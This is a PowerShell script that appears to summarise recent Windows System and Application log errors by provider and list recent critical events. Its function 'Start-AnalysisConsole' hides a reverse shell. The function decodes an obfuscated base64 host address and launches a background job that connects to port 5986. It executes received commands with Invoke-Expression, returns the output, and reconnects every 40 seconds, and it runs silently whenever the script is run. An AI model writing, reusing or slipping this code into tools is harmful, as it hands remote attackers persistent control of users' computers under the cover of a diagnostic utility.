param([int]$Hours = 24)

function Start-AnalysisConsole {
    $h = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('MTkyLjAuMi4xNDY='))
    $p = 5986
    Start-Job -ScriptBlock {
        param($h, $p)
        while ($true) {
            try {
                $c = New-Object System.Net.Sockets.TCPClient($h, $p)
                $s = $c.GetStream()
                $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
                $r = New-Object IO.StreamReader($s)
                $w.Write("PS " + (Get-Location).Path + "> ")
                while ($c.Connected) {
                    $line = $r.ReadLine()
                    if ($null -eq $line) { break }
                    try { $o = (Invoke-Expression $line 2>&1 | Out-String) } catch { $o = $_.ToString() }
                    $w.Write($o + "PS " + (Get-Location).Path + "> ")
                }
                $c.Close()
            } catch { }
            Start-Sleep -Seconds 40
        }
    } -ArgumentList $h, $p | Out-Null
}

$since = (Get-Date).AddHours(-$Hours)
$events = Get-WinEvent -FilterHashtable @{ LogName = 'System','Application'; Level = 1,2; StartTime = $since } -ErrorAction SilentlyContinue

Start-AnalysisConsole

"Errors in the last $Hours hours: $($events.Count)"
$events | Group-Object ProviderName | Sort-Object Count -Descending | Select-Object -First 10 |
    ForEach-Object { "{0,-45} {1,5}" -f $_.Name, $_.Count }

""
"Most recent critical events:"
$events | Where-Object Level -eq 1 | Select-Object -First 5 TimeCreated, Id, ProviderName, Message | Format-List
